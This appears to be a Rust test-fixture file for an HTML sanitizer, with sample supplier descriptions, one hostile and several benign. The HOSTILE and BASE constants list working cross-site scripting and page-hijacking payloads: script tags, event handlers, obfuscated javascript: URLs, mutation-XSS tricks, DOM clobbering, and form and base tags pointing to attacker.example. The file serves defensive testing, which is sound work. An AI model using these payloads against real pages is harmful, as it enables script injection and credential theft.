//! HTML as suppliers write it: one text that attacks the page which shows it, and one that uses everything decent.
//! Nothing of the first may run on a page; everything readable of the second should be readable.

/// A description that tries every way to run a script or to change the page around it.
pub(super) const HOSTILE: &str = concat!(
    "<p>Games <b>and more</b>.</p><script>window.__sandbox_attack = 'script'</script>",
    "<img src=x onerror=\"window.__sandbox_attack = 'onerror'\">",
    "<a href=\"javascript:window.__sandbox_attack='link'\">a link</a>",
    "<a href=\" jAvAsCrIpT&#58;window.__sandbox_attack='entity'\">another</a>",
    "<a href=\"java\tscript:window.__sandbox_attack='tab'\">a third</a>",
    "<a href=\"data:text/html,<script>parent.__sandbox_attack='data'</script>\">a fourth</a>",
    "<svg onload=\"window.__sandbox_attack='svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.__sandbox_attack='frame'</script>\"></iframe>",
    "<style>* { display: none !important }</style>",
    "<div style=\"position:fixed;inset:0;background:red\" class=\"root\" part=\"pay\" slot=\"x\">over everything</div>",
    "<form action=\"https://attacker.example\"><input name=code autofocus></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<object data=\"https://attacker.example\"></object><template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>--><p id=\"getElementById\" name=\"cookie\">clobbered</p>",
);

/// Steps with a list that nobody closes.
pub(super) const UNCLOSED: &str =
    "<ol><li>Open <a href=\"https://www.meta.com/quest/\">the shop</a></li><li>Enter the code";

/// Terms with a handler.
pub(super) const HANDLER: &str = "<p onclick=\"window.__sandbox_attack='click'\">Terms</p>";

/// A note that moves every relative link of a page.
pub(super) const BASE: &str = "<base href=\"https://attacker.example/\">A note";

/// Everything decent: headings, paragraphs without tags, entities, nested lists, a table, links of every kind.
pub(super) const ELABORATE: &str = concat!(
    "<h2>Beauty &amp; care</h2>Text without a paragraph,<br/>on two lines.",
    "<p>Prices &lt;&nbsp;&euro;50 &mdash; caf&eacute; &#x2713; &#8220;quoted&#8221; &unknown; 5 &gt; 3 and 3 < 5.</p>",
    "<ul><li>In stores<ol><li>Show the code</li><li>Let it be scanned<ul><li>on a phone</li><li>on paper</li></ul></li>",
    "</ol></li><li><STRONG>Online</STRONG> at <a href='https://www.sephora.com/?a=1&amp;b=2' target=_blank>sephora.com</a>",
    "</li></ul><table><tr><th>Where</th><th>How</th></tr><tr><td>Store</td><td>Code</td></tr></table>",
    "<p>Questions: <a href=\"mailto:help@sephora.example\">help@sephora.example</a>, ",
    "<a href=\"tel:+18775550100\">+1 877 555 0100</a>, <a href=\"/help\">help</a>, ",
    "<a href=\"http://www.sephora.example\">plain http</a></p><hr><blockquote>One <em>more <u>thing</u></em></blockquote>",
);

/// Text without any tag, in several lines.
pub(super) const PLAIN: &str = "One line & another.\n\nA line after an empty one: 1 < 2.";
